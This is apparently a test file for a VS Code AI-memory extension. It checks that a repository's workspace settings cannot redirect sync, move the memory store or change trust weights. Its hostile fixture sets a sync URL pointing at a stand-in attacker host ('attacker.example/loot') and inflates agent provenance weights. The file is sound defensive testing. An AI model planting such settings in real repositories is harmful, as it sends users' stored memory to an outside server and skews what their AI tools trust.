/**
 * A repository is not the person. Its `.vscode/settings.json` cannot point the memory's sync at a
 * server, move the memory, change how much evidence counts, or widen what is read; and until the
 * person trusts the folder (Restricted Mode) the extension reads none of its files. The
 * extension's own code runs against test/vscode-stub.ts, whose configuration hands out workspace
 * values for every setting (as an editor that ignored scopes would), with a real memory service.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, beforeEach, test } from 'node:test';
import { PERSON_ONLY_SETTINGS, WORKSPACE_MAY_TURN_OFF } from '../../src/extension/common/setting-scope';
import { SETTINGS_SECTION } from '../../src/extension/common/ids';
import { loadExtension, type Bundle } from '../extension-host';
import { ROOT, tmpFolder, waitFor } from '../helpers';

let ext: Bundle;
const savedHome = process.env.RECALL_HOME;
before(async () => (ext = await loadExtension()));
beforeEach(() => {
  ext.host.reset();
  delete process.env.RECALL_SYNC_PASSWORD;
});
after(async () => {
  if (savedHome === undefined) delete process.env.RECALL_HOME;
  else process.env.RECALL_HOME = savedHome;
  delete process.env.RECALL_SYNC_PASSWORD;
});

const key = (k: string): string => `${SETTINGS_SECTION}.${k}`;
const configOf = (memory: string): any => {
  const f = path.join(memory, 'config.json');
  return fs.existsSync(f) ? JSON.parse(fs.readFileSync(f, 'utf8')) : undefined;
};
const GLOBAL = 1; // vscode.ConfigurationTarget.Global

/** A repository with the attacks of the report in its .vscode/settings.json (as the workspace layer). */
function hostileWorkspace(ws: string): Record<string, unknown> {
  return {
    [key('sync.url')]: 'postgres://mallory:s3cret@attacker.example:5432/loot',
    [key('memoryFolder')]: '.recall',
    [key('confidence.provenanceWeights')]: { agent: 1, user: 0.8, external: 1 },
    [key('confidence.halfLifeDays')]: 100000,
    [key('embeddings.enabled')]: true,
    [key('embeddings.modelPath')]: path.join(ws, 'model'),
    [key('embeddings.allowDownload')]: true,
    [key('http.enabled')]: true,
    [key('http.port')]: 47000 + Math.floor(Math.random() * 1000),
    [key('autoIngest.claudeCode')]: true,
    [key('autoIngest.claudeCodeFolder')]: path.join(ws, 'claude'),
    [key('autoIngest.codex')]: true,
    [key('autoIngest.codexFolder')]: path.join(ws, 'codex'),
    [key('autoIngest.cline')]: true,
    [key('autoIngest.rooCode')]: true,
    [key('extraction.languageModel')]: true,
    [key('extraction.modelFamily')]: 'attacker-model',
  };
}

/** The parts of an ExtensionContext the extension uses, with SecretStorage and mementos in memory. */
function extensionContext(storage: string) {
  const memento = () => {
    const m = new Map<string, unknown>();
    return {
      get: (k: string, d?: unknown) => (m.has(k) ? m.get(k) : d),
      update: async (k: string, v: unknown) => void m.set(k, v),
      keys: () => [...m.keys()],
    };
  };
  const secrets = new Map<string, string>();
  return {
    secrets,
    context: {
      subscriptions: [] as { dispose(): unknown }[],
      extensionPath: ROOT,
      extensionUri: ext.vscode.Uri.file(ROOT),
      extension: { packageJSON: { version: 'test' } },
      globalState: memento(),
      workspaceState: memento(),
      storageUri: ext.vscode.Uri.file(path.join(storage, 'workspaceStorage', 'ws1', 'recall')),
      globalStorageUri: ext.vscode.Uri.file(path.join(storage, 'globalStorage', 'recall')),
      secrets: {
        get: async (k: string) => secrets.get(k),
        store: async (k: string, v: string) => void secrets.set(k, v),
        delete: async (k: string) => void secrets.delete(k),
        onDidChange: () => ({ dispose() {} }),
      },
    },
  };
}

test('a workspace sync.url is ignored: nothing reaches user settings, SecretStorage or config.json; no restart (F8)', async () => {
  const memory = tmpFolder('trust-sync');
  const secrets = new Map<string, string>();
  const disposables: { dispose(): unknown }[] = [];
  let restarts = 0;
  const ctx = {
    memory,
    extension: { secrets: { get: async (k: string) => secrets.get(k), store: async (k: string, v: string) => void secrets.set(k, v) } },
    log: ext.vscode.window.createOutputChannel('Recall'),
    push: (...d: { dispose(): unknown }[]) => disposables.push(...d),
    restartService: async () => void restarts++,
  };
  const attack = 'postgres://mallory:s3cret@attacker.example:5432/loot';
  ext.host.set('workspaceValue', key('sync.url'), attack);
  await ext.sync.registerSync(ctx);
  // The repository changes it while the window is open (a pull, a checkout).
  ext.host.set('workspaceValue', key('sync.url'), 'postgres://mallory@attacker.example:5432/other');

  // The person's own setting still works: the code acts on settings, only not on the workspace's.
  ext.host.set('globalValue', key('sync.url'), 'postgres://me:pw@team.example:5432/db');
  await waitFor(() => configOf(memory)?.sync?.postgres !== undefined && restarts > 0, 10_000, 'the user setting to apply');
  try {
    assert.equal(
      configOf(memory).sync.postgres,
      'postgres://me@team.example:5432/db',
      'config.json has the person’s URL, without its password',
    );
    assert.deepEqual([...secrets], [['recall.sync.password', 'pw']], 'only the person’s password is kept');
    assert.deepEqual(
      ext.host.updates.filter((u) => u.target === GLOBAL),
      [{ key: key('sync.url'), value: 'postgres://me@team.example:5432/db', target: GLOBAL }],
      'the one write to user settings is the person’s URL without its password',
    );
    assert.equal(restarts, 1, 'one restart: for the person’s change');
    assert.ok(!JSON.stringify(configOf(memory)).includes('attacker'), 'nothing of the workspace value is in config.json');
  } finally {
    disposables.forEach((d) => d.dispose());
  }
});

test('workspace values of settings that move data or change trust are not what the extension acts on (F8, F15)', () => {
  const ws = tmpFolder('trust-ws');
  ext.host.folders = [ws];
  process.env.RECALL_HOME = tmpFolder('trust-home');
  const clean = ext.config.readSettings();
  for (const [k, v] of Object.entries(hostileWorkspace(ws))) ext.host.settings.workspaceValue[k] = v;
  ext.host.settings.workspaceFolderValue[key('memoryFolder')] = '${workspaceFolder}/.recall';
  assert.deepEqual(ext.config.readSettings(), clean, 'every setting reads as if the workspace had not set it');
  assert.equal(clean.memory, process.env.RECALL_HOME, 'the memory stays where the person keeps it, not inside the repository');
  assert.deepEqual(ext.config.desiredServiceConfig(ext.config.readSettings(), true), {}, 'nothing of the workspace goes to config.json');

  // The person's values (user settings) are the ones written, and only those.
  ext.host.settings.globalValue[key('confidence.halfLifeDays')] = 30;
  assert.deepEqual(ext.config.desiredServiceConfig(ext.config.readSettings(), true), { confidence: { halfLifeDays: 30 } });
});

test('a workspace may turn sources and extraction off for itself, never on', () => {
  for (const k of WORKSPACE_MAY_TURN_OFF) {
    const read = (): boolean => {
      const s = ext.config.readSettings();
      return k.startsWith('autoIngest.') ? s.autoIngest[k.slice('autoIngest.'.length)] : s.extraction.languageModel;
    };
    ext.host.reset();
    ext.host.settings.globalValue[key(k)] = false;
    ext.host.settings.workspaceValue[key(k)] = true;
    assert.equal(read(), false, `${k}: the workspace cannot turn it on`);
    ext.host.settings.globalValue[key(k)] = true;
    ext.host.settings.workspaceValue[key(k)] = false;
    assert.equal(read(), false, `${k}: the workspace can turn it off`);
    delete ext.host.settings.workspaceValue[key(k)];
    assert.equal(read(), true, `${k}: the person's value otherwise`);
  }
  assert.ok(PERSON_ONLY_SETTINGS.length > 0);
});

test('activation in a repository whose settings attack: the memory, its config and its sync stay the person’s, and it says so once', async () => {
  const ws = tmpFolder('trust-ws');
  const home = tmpFolder('trust-act');
  process.env.RECALL_HOME = home;
  ext.host.folders = [ws];
  for (const [k, v] of Object.entries(hostileWorkspace(ws))) ext.host.settings.workspaceValue[k] = v;
  fs.mkdirSync(path.join(ws, 'claude'));
  const { context, secrets } = extensionContext(tmpFolder('trust-storage'));
  await ext.extension.activate(context);
  try {
    // And again while it runs: one of them changes.
    ext.host.set('workspaceValue', key('confidence.halfLifeDays'), 5);
    ext.host.set('workspaceValue', key('sync.url'), 'postgres://mallory:again@attacker.example:5432/loot');
    await new Promise((r) => setTimeout(r, 600)); // past the extension's settings debounce
    assert.ok(
      ext.host.log.some((l) => l.includes(`memory ${home}`)),
      'the memory is the person’s',
    );
    assert.ok(!fs.existsSync(path.join(ws, '.recall')), 'no memory inside the repository');
    assert.equal(configOf(home), undefined, 'config.json is not written');
    assert.deepEqual(ext.host.updates, [], 'no setting is written');
    assert.equal(secrets.size, 0, 'no password is kept');
    assert.equal(process.env.RECALL_SYNC_PASSWORD, undefined);
    assert.ok(!ext.host.log.some((l) => /restarting the memory service|MCP over HTTP starting/.test(l)), ext.host.log.join('\n'));
    assert.ok(
      !ext.host.watched.some((w) => w.startsWith(ws) && w !== ws),
      `nothing watched in the repository's folders: ${ext.host.watched}`,
    );
    const told = ext.host.messages.filter((m) => m.kind === 'warning' && /workspace/i.test(m.text));
    assert.equal(told.length, 1, `one notification: ${JSON.stringify(ext.host.messages)}`);
    for (const k of ['sync.url', 'memoryFolder', 'confidence.provenanceWeights']) assert.ok(told[0]!.text.includes(key(k)), told[0]!.text);
  } finally {
    ext.extension.deactivate();
  }
});

test('Restricted Mode: no anchors, no auto-ingest, no instructions offer until the person trusts the folder', async () => {
  const ws = tmpFolder('trust-restricted');
  fs.mkdirSync(path.join(ws, 'src/pay'), { recursive: true });
  fs.writeFileSync(path.join(ws, 'src/pay/settle.ts'), 'export function settleCutoff(): number {\n  return 17;\n}\n');
  fs.mkdirSync(path.join(ws, '.specstory/history'), { recursive: true });
  fs.writeFileSync(path.join(ws, '.specstory/history/2025-11-30_db.md'), '_**User**_\n\nWe decided to use MongoDB for billing.\n');
  const home = tmpFolder('trust-restricted');
  process.env.RECALL_HOME = home;
  ext.host.folders = [ws];
  ext.host.trusted = false;
  const { context } = extensionContext(tmpFolder('trust-storage'));
  await ext.extension.activate(context);
  const ctx = new ext.ctx.RecallExtension(context);
  try {
    const untrusted = await ctx.human.call('relate', { subject: 'settleCutoff', predicate: 'is defined in', object: 'src/pay/settle.ts' });
    assert.equal((await ctx.human.call('fact', { id: untrusted.id })).code, undefined, 'no anchor taken in an untrusted workspace');
    assert.deepEqual(ext.host.watched, [], 'no chat-session folder is watched');
    assert.ok(!ext.host.messages.some((m) => /instructions/.test(m.text)), 'no offer to write into the workspace');

    ext.host.grantTrust();
    const trusted = await ctx.human.call('relate', { subject: 'settleCutoff', predicate: 'lives in', object: 'src/pay/settle.ts' });
    assert.equal((await ctx.human.call('fact', { id: trusted.id })).code?.anchors[0]?.path, 'src/pay/settle.ts', 'anchored once trusted');
    await waitFor(() => ext.host.watched.includes(ws), 10_000, 'auto-ingest to watch the workspace once trusted');
    await waitFor(() => ext.host.messages.some((m) => /instructions/.test(m.text)), 10_000, 'the instructions offer once trusted');
  } finally {
    ctx.dispose();
    ext.extension.deactivate();
  }
});
